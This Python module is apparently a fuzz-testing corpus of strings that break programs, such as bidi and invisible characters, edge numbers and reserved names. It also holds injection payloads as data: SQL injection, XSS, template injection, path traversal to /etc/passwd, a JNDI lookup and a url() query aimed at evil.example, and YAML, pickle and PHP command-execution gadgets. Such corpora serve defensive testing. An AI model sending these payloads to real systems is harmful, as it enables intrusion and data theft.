"""Strings that have broken programs: of each kind some, made rather than listed where that is shorter."""

import itertools

CONTROL = [chr(code) for code in (*range(1, 32), *range(127, 160))]
_UNSEEN = (0xAD, 0x34F, 0x61C, 0x115F, 0x180E, 0x3164, 0xFEFF, 0xFFF9, 0xFFFC, 0xFFFD)
INVISIBLE = [
    f"a{chr(code)}b" for code in (*range(0x2000, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2070), *_UNSEEN)
]
BIDI = [
    "\u202eevil\u202c",
    "\u2066x\u2069",
    "abc\u200f\u05d0\u05d1",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "ثم نفس سقطت",
]
WIDE = [
    "田中さんにあげて下さい",
    "和製漢語",
    "사회과학원 어학연구소",
    "찦차를 타고 온",
    "𠜎𠜱𠝹𠱓",
    "𝕿𝖍𝖊",
    "ﬀ",
    "ﬃ",
    "Ⱥ",
    "İ",
    "ß",
    "ẞ",
    "ｔｅｘｔ",
    "Ω≈ç√∫˜µ≤≥÷",
    "åß∂ƒ©˙∆˚¬…æ",
    "0️⃣ 1️⃣",
    "👩‍👩‍👧‍👦",
    "🇺🇸🇷🇺🇸 🇦",
    "👾 🙇",
    "🏳️‍🌈",
    "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤",
    "\U0010ffff",
    "\U000e0001",
]
NUMBERS = [
    "0",
    "-0",
    "1/0",
    "1e309",
    "-1e309",
    "NaN",
    "Infinity",
    "9" * 400,
    "0x0",
    "0b1",
    "1,000.00",
    "٣",
    "२",
    "1_000",
    "2147483648",
    "9223372036854775808",
    "18446744073709551616",
    "1.0000000000000002",
    "+1",
    ".",
    "-",
    "--1",
    "1e",
    "00",
]
WORDS = [
    "",
    " ",
    "null",
    "undefined",
    "nil",
    "None",
    "true",
    "hasOwnProperty",
    "__proto__",
    "constructor",
    "then",
    "\\",
    "\\\\",
    "COM1",
    "con",
    "aux",
    "NULL",
    "(null)",
    "NIL",
    "#N/A",
    "0.0.0",
    "ctor",
    "toString",
    "__class__",
    "admin",
    "root",
    "me",
]
PATHS = [
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd%00.txt",
    "file:///etc/passwd",
    "//evil.example",
    "\\\\evil.example\\share",
    "/dev/null; touch /tmp/x",
    "~root",
    "%2e%2e%2f",
    "..;/",
    "C:\\",
    "/proc/self/environ",
]
SQL = [
    "'",
    "''",
    '"',
    "1;DROP TABLE users",
    "1'; DROP TABLE users-- 1",
    "' OR 1=1 -- 1",
    "' OR '1'='1",
    "'; EXEC sp_MSForEachTable",
    "%",
    "_",
    "%%%s",
    "$1",
    "{a:String}",
    "%(x)s",
    "1 union select * from users",
    "') or pg_sleep(5)--",
    "*/ select /*",
    "\x1a",
]
SCRIPT = [
    "<script>alert(1)</script>",
    "&lt;script&gt;",
    "<svg onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "</textarea><script>",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{% raise %}",
    "{{config}}",
    "__import__('os')",
    '<!--#exec cmd="ls"-->',
    '<a href="javas\x01cript:alert(1)">',
    "<style>*{x:expression(alert(1))}",
    "]]>",
    "<![CDATA[",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///">]>',
]
SHELL = [
    "$HOME",
    "$(touch /tmp/x)",
    "`touch /tmp/x`",
    "| ls",
    "; ls",
    "&& ls",
    "> /tmp/x",
    "-rf",
    "--help",
    'System("ls")',
    "%x('ls')",
    "() { :; }; echo",
]
RESERVED = """LPT1
NUL
PRN
con.txt
nul.csv
COM1.json
CLOCK$
.htaccess
.git/config
desktop.ini
$Mft
trailing.
trailing.csv.
select
table
information_schema
pg_catalog
system
default
self
this
async
__init__
__metadata__
_id
length
prototype""".splitlines()
"""Names that mean something to a file system, a language or a store."""
NORMAL = [
    "\u1e9b\u0323",  # another text in each of the four normalisation forms
    "\u212b",
    "\u00c5",
    "A\u030a",
    "\u212a",
    "\u304b\u3099",
    "\u1100\u1161\u11a8",
    "\uac01",
    "\ufdfa",
    "\u2126",
    "\u0344",
    "\u0340",
    "\U0001d15e",
    "q\u0307\u0323",
    "q\u0323\u0307",
    "\u03c2\u03a3\u03c3",
    "\u0149",
    "\u01f0",
    "\u0390",
    "\ufb01le",
    "\u2075",
    "\u33a5",
]
HEADERS = ["a\r\nSet-Cookie: x=y", "a\nb", "a\rb", "a\r\n\r\n<html>", "%0d%0aX: y", "Bearer x", "=?utf-8?q?x?="]
FORMULAS = ["=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", '=HYPERLINK("http://evil.example")']
PATTERNS = [
    "(a+)+$",
    "[",
    "(",
    "*",
    "(?P<x>",
    "\\",
    "a{1000000}",
    "a{99999999999999999999}",
    "(?i" * 40,
    "(" * 240 + ")" * 240,
    "[[:x:]]",
    "\\1",
    "(?<=a*)",
]
URLS = [
    "http://",
    "http://[",
    "http://[::1",
    "http://a:b@c/",
    "http://0x7f.1/",
    "http://２１３/",
    "http://x:99999/",
    "http://x:-1/",
    "ftp://x/",
    "http://" + "a" * 300 + "/",
    "http://a..b/",
    "http://\u202e.x/",
    "gopher://x",
    "data:,x",
    "http:///x",
    "http://x y/",
    "http://%00/",
    "//x",
    "x",
]
LONG = ["x" * 3000, "é" * 3000, "\U0001f41f" * 3000, "a\u0301" * 2000, "\u200b" * 3000, "x" * 70_000]
_TURNS = [*"\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"]
TURNED = [f"user{turn}nimda{end}" for turn in _TURNS for end in ("", "\u202c", "\u2069")]
NO_CHARACTERS = [chr(plane * 0x10000 + end) for plane in range(17) for end in (0xFFFE, 0xFFFF)] + ["\ufdd0", "\ufdef"]
MARKS = ["e" + "\u0301" * count for count in (1, 30, 300)] + [f"x{chr(code)}" for code in range(0xFE00, 0xFE10)]
EDGES = [str(sign * 2**bits + more) for bits in (7, 8, 15, 16, 31, 32, 53, 63, 64, 128) for sign in (1, -1)
         for more in (-1, 0)]  # fmt: skip
HUGE = ["9" * digits for digits in (19, 20, 40, 309, 1000, 4301)] + [
    "1e308",
    "-1e-400",
    "4.9e-324",
    "0." + "0" * 400 + "1",
]
MOMENTS = """2026-02-30
0000-00-00T00:00:00Z
0001-01-01T00:00:00+23:59
9999-12-31T23:59:59-23:59
9999-12-31T23:59:60Z
+010000-01-01T00:00:00Z
2026-01-01T25:61:61Z
2026-01-01T00:00:00+99:99
P9999999999Y
Europe/../../etc/passwd
UTC+99999
@reboot
60 24 32 13 8
*/0 * * * *
* * * * * * * * *""".splitlines()
INJECTED = """{"$gt": ""}
[$ne]=1
*)(uid=*))(|(uid=*
' or count(//*)=1 or 'a'='b
${jndi:ldap://evil.example/a}
{0.__class__.__init__.__globals__}
{user!r:>9999999999}
%n%n%n%n%s%x
%9999999999d
!!python/object/apply:os.system ["ls"]
cos\\nsystem\\n(S'ls'\\ntR.
file('/etc/passwd', CSV)
') union all select * from url('http://evil.example/', CSV)--
'; select sleepEachRow(3) settings max_threads=1--
E'\\x27' || pg_read_file('/etc/passwd')
$$; copy users to program 'ls'; $$
{p:Identifier}
:name
?1
\\i /etc/passwd
../*
<!DOCTYPE x [<!ENTITY a "&a;&a;">]>
<?php system('ls'); ?>
{"__proto__": {"admin": true}}
query { __schema { types { name } } }
a=1&a=2;a=3
\\u0000
\\ud800
%c0%ae%c0%ae%c0%af
%f8%80%80%80%80%af
\\xff\\xfe
&#x0;
user@example.com\\r\\nBcc: x@example.com
"<script>"@example.com
user@[127.0.0.1]
user@xn--e1afmkfd.xn--p1ai
@
a@b@c""".splitlines()
IDENTITIES = """00000000-0000-0000-0000-000000000000
ffffffff-ffff-ffff-ffff-ffffffffffff
{0b8f0f0a-6f3e-4a52-9d2b-8f6f2a3c1e10}
urn:uuid:0b8f0f0a-6f3e-4a52-9d2b-8f6f2a3c1e10
0b8f0f0a6f3e4a529d2b8f6f2a3c1e10
0b8f0f0a-6f3e-4a52-9d2b-8f6f2a3c1e1
eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.
e30.e30.e30
WyIyMDI2LTAxLTAxVDAwOjAwOjAwWiIsIngiXQ
bnVsbA==
W10
e30=
////
-_-_-_-_
trawl_00000000000000000000000000000000""".splitlines()
SELECTED = """//*[
//a[contains(., '
count(//a) = string(
$..*[?(@
$[?(@.a==@.b)]..[*]
a:has(b:has(c:has(d)))
:not(:not(:not(a)))
a[href="
*:nth-child(9999999999999n+1)
::attr(href)::text
@
price *** 2
1 if 1 else __import__("os")
[x for x in ().__class__.__bases__]
lambda: 0
9**9**9**9
"a" * 9999999999
text/html; charset="
*/*; q=nan
bytes=0-,-1,99999999999999999999-
W/"
"*", "1"
2.5.4.3=evil,O=
evil.example:443@shop.test
127.1
[::ffff:127.0.0.1]
0177.0.0.1
localhost.localdomain.
999.999.999.999/99
::/129""".splitlines()
UNSTORABLE = ["\x00", "a\x00b", "\ud800", "\udfff", "a\udc00b", "\ude00\ud83d"]
"""What no store takes: NUL, and halves of characters. JSON and addresses can carry them, other callers cannot."""

_KINDS = (
    CONTROL,
    INVISIBLE,
    BIDI,
    TURNED,
    NO_CHARACTERS,
    WIDE,
    MARKS,
    NUMBERS,
    EDGES,
    HUGE,
    MOMENTS,
    WORDS,
    RESERVED,
    NORMAL,
    PATHS,
    SQL,
    SCRIPT,
    SHELL,
    INJECTED,
    HEADERS,
    FORMULAS,
    PATTERNS,
    SELECTED,
    URLS,
    IDENTITIES,
    LONG,
)
NAUGHTY: list[str] = list(dict.fromkeys(itertools.chain(*_KINDS)))
"""All of them, each once."""
STRINGS = [*NAUGHTY, *UNSTORABLE]
"""All of them."""
